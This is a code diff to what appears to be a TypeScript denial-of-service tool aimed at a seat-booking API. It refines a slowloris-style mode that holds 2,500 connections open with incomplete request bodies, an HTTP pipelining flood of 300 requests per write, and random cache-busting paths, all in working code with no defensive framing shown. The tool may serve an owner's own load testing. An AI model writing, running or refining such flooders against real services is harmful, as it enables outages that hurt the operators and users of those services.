@@ -19,15 +19,25 @@ function count(what: string): void {
   spoils[what] = (spoils[what] ?? 0) + 1;
 }
 
-/** Sends bytes on one connection after another and reads nothing. */
-async function sendAndIgnore(bytes: () => string): Promise<never> {
+/**
+ * Sends bytes on one connection after another.
+ * @param givesUpAfterMs reads nothing, so does not see that a connection was closed, and leaves it after this time; default:
+ *   stays until it is closed.
+ */
+async function sendAndWait(bytes: () => string, givesUpAfterMs?: number): Promise<never> {
   for (;;) {
     const socket = connect({ port: Number(url.port), host: url.hostname, localAddress: from });
     socket.on('error', () => undefined);
-    socket.pause();
     count('connections');
     socket.write(bytes());
-    await new Promise((resolve) => socket.once('close', resolve));
+    if (givesUpAfterMs === undefined) {
+      socket.resume();
+      await new Promise((resolve) => socket.once('close', resolve));
+    } else {
+      socket.pause();
+      await delay(givesUpAfterMs);
+      socket.destroy();
+    }
     await delay(comeBackAfterMs);
   }
 }
@@ -46,14 +56,17 @@ function several(number: number, attack: () => Promise<never>): void {
   for (let one = 0; one < number; one++) void attack();
 }
 
+/** Fans who came in before have left more events than that. */
+const positions = 10_000;
+
 /** A path that no reply in memory is for: another moment, another word. */
 function uncommonPath(): string {
   const seats = `/v1/schedules/${order.scheduleId}/seats`;
   const anything = Math.floor(Math.random() * 1e9);
   const paths = [
-    `${seats}?at=${anything}`,
+    `${seats}?at=${anything % positions}`,
     `/v1/performances?search=${anything}`,
-    `/v1/performances/${order.performanceId}/queue?at=${anything}`,
+    `/v1/performances/${order.performanceId}/queue?at=${anything % positions}`,
     `/v1/none/${anything}`,
     `${seats}/status`,
   ];
@@ -68,13 +81,13 @@ switch (order.attack) {
       'Content-Type: application/json',
       'Content-Length: 60',
     ];
-    several(2_500, () => sendAndIgnore(() => `${head.join('\r\n')}\r\n\r\n{`));
+    several(2_500, () => sendAndWait(() => `${head.join('\r\n')}\r\n\r\n{`));
     break;
   }
   case 'pipelining': {
     const seats = () =>
-      `GET /v1/schedules/${order.scheduleId}/seats?at=${Math.floor(Math.random() * 1e9)} HTTP/1.1\r\nHost: x\r\n\r\n`;
-    several(20, () => sendAndIgnore(() => Array.from({ length: 300 }, seats).join('')));
+      `GET /v1/schedules/${order.scheduleId}/seats?at=${Math.floor(Math.random() * positions)} HTTP/1.1\r\nHost: x\r\n\r\n`;
+    several(20, () => sendAndWait(() => Array.from({ length: 300 }, seats).join(''), 1_000));
     break;
   }
   case 'wait-positions':
